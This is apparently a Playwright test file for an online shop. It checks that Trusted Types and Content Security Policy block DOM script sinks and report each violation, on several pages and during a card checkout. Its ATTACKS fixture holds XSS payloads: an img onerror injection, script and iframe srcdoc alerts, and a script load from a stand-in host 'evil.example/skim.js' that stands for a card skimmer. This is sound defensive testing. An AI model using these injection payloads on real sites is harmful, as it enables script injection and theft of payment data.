import { expect, type Page } from 'playwright/test';
import { newAddress } from '../support/shop-data.ts';
import { createVisitor, test } from '../support/test.ts';

const ATTACKS = {
  'element.innerHTML': () => {
    document.createElement('div').innerHTML = '<img src="x" onerror="document.title = \'attacked\'">';
  },
  'script.src': () => {
    document.createElement('script').src = 'https://evil.example/skim.js';
  },
  'script.setAttribute': () => {
    document.createElement('script').setAttribute('src', '/sandbox/assets/phone.js');
  },
  'iframe.srcdoc': () => {
    document.createElement('iframe').srcdoc = '<script>alert(1)</script>';
  },
  'script.text': () => {
    document.createElement('script').text = 'alert(1)';
  },
};

/** Collects what the browser reports to the shop, as the directive with what was set. */
function collectReports(page: Page) {
  const reports: string[] = [];
  page.on('response', async (response) => {
    if (!response.url().endsWith('/api/m/csp-reports/')) return;
    const { 'csp-report': report } = JSON.parse(response.request().postData() ?? '{}');
    const [sample] = (report['script-sample'] ?? '').split('|');
    reports.push(`${response.status()} ${report['violated-directive']} ${report['blocked-uri']} ${sample}`);
  });
  return reports;
}

/** Runs each attack, and returns those that were stopped. */
async function attack(page: Page) {
  const stopped: string[] = [];
  for (const [name, run] of Object.entries(ATTACKS))
    await page.evaluate(run).catch((error: Error) => {
      if (/requires 'Trusted\w+' assignment/.test(error.message)) stopped.push(name);
    });
  return stopped;
}

const EXPECTED_REPORTS = [
  '204 require-trusted-types-for trusted-types-sink Element innerHTML',
  '204 require-trusted-types-for trusted-types-sink HTMLIFrameElement srcdoc',
  '204 require-trusted-types-for trusted-types-sink HTMLScriptElement src',
  '204 require-trusted-types-for trusted-types-sink HTMLScriptElement src',
  '204 require-trusted-types-for trusted-types-sink HTMLScriptElement text',
];

for (const path of ['/', '/collection', '/login', '/api/docs/', '/__machines', '/sandbox/mail'])
  test(`[HARDEN-06] [HARDEN-07] what would run a string at ${path} is stopped and reported`, async ({
    page,
    shopUrl,
  }) => {
    const reports = collectReports(page);
    await page.goto(`${shopUrl}${path}`);
    expect(await attack(page)).toEqual(Object.keys(ATTACKS));
    await expect.poll(() => reports.toSorted()).toEqual(EXPECTED_REPORTS);
    await expect(page).not.toHaveTitle('attacked');
  });

test('[HARDEN-06] no other policy can be created', async ({ page, shopUrl }) => {
  const reports = collectReports(page);
  await page.goto(`${shopUrl}/`);
  const creating = page.evaluate(() => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => object };
    };
    trustedTypes.createPolicy('lit-html', {});
  });
  await expect(creating).rejects.toThrow("Failed to execute 'createPolicy'");
  await expect.poll(() => reports).toEqual(['204 trusted-types trusted-types-policy lit-html']);
});

test('[HARDEN-07] beside the scripts of Google and of the card window only HTML that draws is inserted, and both work', async ({
  shopUrl,
  browser,
}) => {
  const context = await browser.newContext({ baseURL: shopUrl });
  const page = await context.newPage();
  const visitor = createVisitor(page);
  const reports = collectReports(page);
  const draw = () =>
    page.evaluate(() => {
      document.createElement('div').innerHTML = '<p style="color: red">One moment</p>';
    });
  await page.goto('/');
  const drawn = '204 require-trusted-types-for trusted-types-sink Element innerHTML';
  await expect(draw()).rejects.toThrow("requires 'TrustedHTML' assignment");
  // Leaving the page may lose its report.
  await expect.poll(() => reports).toEqual([drawn]);

  await visitor.login.open();
  await visitor.google.signInAs({ name: 'Wairimu Otieno', email: newAddress() });
  await page.waitForURL('**/collection');
  await draw();
  expect(await attack(page)).toEqual(Object.keys(ATTACKS));

  const { storefront, cart, checkout, address } = visitor;
  await storefront.search('Brake Fluid DOT 4 500 ml');
  await storefront.addFromList('Brake Fluid DOT 4 500 ml');
  await storefront.openCart();
  await cart.proceed();
  await checkout.see();
  await address.fillIn();
  await checkout.chooseCard();
  await checkout.payNow();
  await visitor.card.seeReady('Ksh 1,100');
  await draw();
  expect(await attack(page)).toEqual(Object.keys(ATTACKS));
  await visitor.card.pay();
  await visitor.card.payInWindow();
  await visitor.confirmation.seeConfirmed();
  await expect
    .poll(() => reports.toSorted())
    .toEqual([drawn, ...EXPECTED_REPORTS, ...EXPECTED_REPORTS].toSorted());
  await context.close();
});
